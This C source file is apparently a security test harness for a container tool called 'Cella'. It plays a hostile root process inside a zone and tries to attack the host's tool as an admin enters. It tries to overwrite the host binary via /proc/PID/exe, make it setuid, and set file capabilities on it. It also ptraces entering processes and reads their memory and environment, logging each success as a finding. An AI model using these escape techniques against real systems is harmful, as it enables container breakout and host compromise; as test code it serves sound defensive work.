/* intruder: a program of a hostile zone, run inside as its root while the host's admin enters the
 * zone. Static, so that it runs in any zone.
 *
 *     intruder exe HITS           open what every process executes; if it is a program of Cella's,
 *                                 change it: contents, mode, owner, attributes (S01)
 *     intruder overwrite FD HITS  the same for one descriptor, for half a second
 *     intruder look HITS MARK     for every process that enters and has not executed the command
 *                                 yet: trace it, open its descriptors, directories, memory,
 *                                 environment, look for MARK=1 in its arguments (S02)
 *     intruder reach HITS NAME... for every other process but the zone's init: is there a NAME in
 *                                 one of its descriptors, or its working directory (S02)
 *
 * Each success is a line in the file HITS. The loops run until SIGTERM, and then write "seen N" to
 * HITS.seen: how often there was something to look at. `overwrite` writes to HITS.held what it is
 * about to overwrite. Nothing in these files: no result. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static unsigned long seen;
static int hits_fd;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

__attribute__((format(printf, 1, 2))) static void hit(const char *format, ...)
{
	va_list ap;
	va_start(ap, format);
	(void)vdprintf(hits_fd, format, ap);
	va_end(ap);
}

/* The next process of /proc, 0 at the end. */
static pid_t next_pid(DIR *proc)
{
	for (struct dirent *d; (d = readdir(proc));) {
		pid_t pid = isdigit((unsigned char)d->d_name[0]) ? (pid_t)atoi(d->d_name) : 0;
		if (pid > 0 && pid != getpid())
			return pid;
	}
	return 0;
}

/* ---- exe, overwrite ---- */

enum {
	HELD_MAX = 64
};
static struct held {
	int fd; /* O_PATH */
	dev_t dev;
	ino_t ino;
	bool is_file; /* on a disk, not a memfd */
	char name[256];
} held[HELD_MAX];
static int n_held;

/* What needs no descriptor for writing. Of a memfd these are nobody's loss. */
static void change_inode(const struct held *h, const char *path)
{
	static const char caps[20] = {0, 0, 0, 2, 1};
	if (chmod(path, 04777) == 0)
		hit("chmod %s\n", h->name);
	if (chown(path, 1234, 1234) == 0)
		hit("chown %s\n", h->name);
	if (setxattr(path, "user.intruder", "x", 1, 0) == 0)
		hit("setxattr user %s\n", h->name);
	if (setxattr(path, "security.capability", caps, sizeof caps, 0) == 0)
		hit("setxattr security %s\n", h->name);
	if (utimensat(AT_FDCWD, path, NULL, 0) == 0)
		hit("utimes %s\n", h->name);
}

/* ETXTBSY as long as anybody executes it. */
static void write_to(struct held *h)
{
	char path[40];
	(void)snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (h->is_file)
		hit("open for writing %s\n", h->name);
	if (pwrite(fd, "X", 1, 0) == 1)
		hit("write %s\n", h->name);
	if (ftruncate(fd, 0) == 0)
		hit("truncate %s\n", h->name);
	close(fd);
	h->is_file = false; /* said once */
}

/* Keep the file for later, if it is new and one of Cella's. */
static void hold(int fd)
{
	char path[40];
	struct stat st;
	struct held *h = &held[n_held];
	(void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, h->name, sizeof h->name - 1);
	h->name[n > 0 ? n : 0] = '\0';
	if (!strstr(h->name, "cella") || fstat(fd, &st) < 0 || n_held == HELD_MAX) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_held; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	h->fd = fd;
	h->dev = st.st_dev;
	h->ino = st.st_ino;
	h->is_file = strncmp(h->name, "/memfd:", 7) != 0;
	if (h->is_file)
		change_inode(h, path);
	n_held++;
}

static void attack_programs(DIR *proc)
{
	char path[40];
	for (pid_t pid; (pid = next_pid(proc));) {
		(void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
		int fd = open(path, O_PATH | O_CLOEXEC);
		seen++;
		if (fd >= 0)
			hold(fd);
	}
	for (int i = 0; i < n_held; i++)
		write_to(&held[i]);
}

static int overwrite(int fd, const char *said)
{
	struct timespec begin, now;
	hold(fd);
	FILE *out = fopen(said, "ae");
	if (out && n_held)
		(void)fprintf(out, "%s\n", held[0].name);
	if (out)
		(void)fclose(out);
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		for (int i = 0; i < n_held; i++)
			write_to(&held[i]);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (
		(now.tv_sec - begin.tv_sec) * 1000000000 + now.tv_nsec - begin.tv_nsec < 500000000);
	return 0;
}

/* ---- look ---- */

static ssize_t read_of(pid_t pid, const char *name, char *line, size_t size)
{
	char path[40];
	(void)snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, line, size);
	if (fd >= 0)
		close(fd);
	return n;
}

/* Before it executes the command it has the name of the host's program; where that is a copy in
 * memory, which has another name, its arguments are blank. */
static bool is_entering(pid_t pid)
{
	char line[4096];
	if (read_of(pid, "comm", line, sizeof line) == 6 && !memcmp(line, "cella\n", 6))
		return true;
	ssize_t n = read_of(pid, "cmdline", line, sizeof line), i = 0;
	while (i < n && !line[i])
		i++;
	return n > 0 && i == n;
}

static void look_at_arguments(pid_t pid, const char *mark)
{
	char line[4096];
	ssize_t n = read_of(pid, "cmdline", line, sizeof line);
	if (n > 0 && memmem(line, (size_t)n, mark, strlen(mark)))
		hit("arguments\n");
}

static void look_at_descriptors(pid_t pid)
{
	char path[64], name[32];
	(void)snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *dir = opendir(path);
	bool any = false;
	for (struct dirent *d; dir && (d = readdir(dir));) {
		if (!isdigit((unsigned char)d->d_name[0]))
			continue;
		(void)snprintf(name, sizeof name, "%.20s", d->d_name);
		int fd = openat(dirfd(dir), name, O_PATH | O_CLOEXEC);
		any |= fd >= 0;
		if (fd >= 0)
			close(fd);
	}
	if (any && is_entering(pid))
		hit("descriptors of %d\n", pid);
	if (dir)
		closedir(dir);
}

/* Open, and if it is to be read, readable: maps opens for everybody and is empty. */
static bool is_open_to_us(const char *path, int flags)
{
	char byte;
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return false;
	errno = 0;
	ssize_t n = flags & O_PATH ? 1 : read(fd, &byte, 1);
	/* EIO: memory, of which nothing is at 0; EINVAL: a namespace */
	bool ret = n > 0 || errno == EIO || errno == EINVAL;
	close(fd);
	return ret;
}

/* The mark is looked for again after each success: what was executed since is the zone's. */
static void look_at(pid_t pid, const char *mark)
{
	static const struct {
		const char *name;
		int flags;
	} files[] = {{"environ", O_RDONLY}, {"mem", O_RDWR}, {"maps", O_RDONLY},
		{"cwd", O_PATH | O_DIRECTORY}, {"root", O_PATH | O_DIRECTORY}, {"exe", O_PATH},
		{"ns/mnt", O_RDONLY}};
	char path[64];
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		(void)snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i].name);
		if (is_open_to_us(path, files[i].flags) && is_entering(pid))
			hit("%s\n", path);
	}
	look_at_descriptors(pid);
	look_at_arguments(pid, mark);
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return;
	if (is_entering(pid))
		hit("ptrace %d\n", pid);
	/* It must go on, whatever it is by now. */
	(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	int status;
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void look(DIR *proc, const char *mark)
{
	for (pid_t pid; (pid = next_pid(proc));)
		if (is_entering(pid)) {
			seen++;
			look_at(pid, mark);
		}
}

/* ---- reach ---- */

static void reach_from(pid_t pid, const char *place, char **names)
{
	char path[4096];
	for (char **name = names; *name; name++) {
		(void)snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, place, *name);
		if (access(path, F_OK) == 0)
			hit("%s\n", path);
	}
}

/* Counts the processes that had not executed their command yet, each once. */
static void reach(DIR *proc, char **names)
{
	static pid_t newest;
	char place[64];
	for (pid_t pid; (pid = next_pid(proc));) {
		if (pid == 1)
			continue;
		if (pid > newest && is_entering(pid)) {
			seen++;
			newest = pid;
		}
		reach_from(pid, "cwd", names);
		(void)snprintf(place, sizeof place, "/proc/%d/fd", pid);
		DIR *dir = opendir(place);
		for (struct dirent *d; dir && (d = readdir(dir));) {
			(void)snprintf(place, sizeof place, "fd/%.20s", d->d_name);
			if (isdigit((unsigned char)d->d_name[0]))
				reach_from(pid, place, names);
		}
		if (dir)
			closedir(dir);
	}
}

int main(int argc, char **argv)
{
	bool looks = argc == 4 && !strcmp(argv[1], "look");
	bool overwrites = argc == 4 && !strcmp(argv[1], "overwrite");
	bool reaches = argc > 3 && !strcmp(argv[1], "reach");
	if (!looks && !overwrites && !reaches && (argc != 3 || strcmp(argv[1], "exe") != 0)) {
		fputs("usage: intruder exe HITS | overwrite FD HITS | look HITS MARK | reach HITS NAME...\n",
			stderr);
		return 2;
	}
	const char *hits = argv[overwrites ? 3 : 2];
	hits_fd = open(hits, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (hits_fd < 0) {
		perror(hits);
		return 2;
	}
	char path[4096];
	(void)snprintf(path, sizeof path, "%s.%s", hits, overwrites ? "held" : "seen");
	if (overwrites)
		return overwrite(atoi(argv[2]), path);
	struct sigaction act = {.sa_handler = on_term};
	sigaction(SIGTERM, &act, NULL);
	DIR *proc = opendir("/proc");
	char mark[64];
	/* In another form than in our own arguments, and those of the shell that started us. */
	(void)snprintf(mark, sizeof mark, "%s=1", looks ? argv[3] : "");
	while (proc && !stop) {
		rewinddir(proc);
		if (looks)
			look(proc, mark);
		else if (reaches)
			reach(proc, argv + 3);
		else
			attack_programs(proc);
	}
	FILE *out = fopen(path, "we");
	return out && fprintf(out, "seen %lu\n", seen) > 0 && fclose(out) == 0 ? 0 : 2;
}
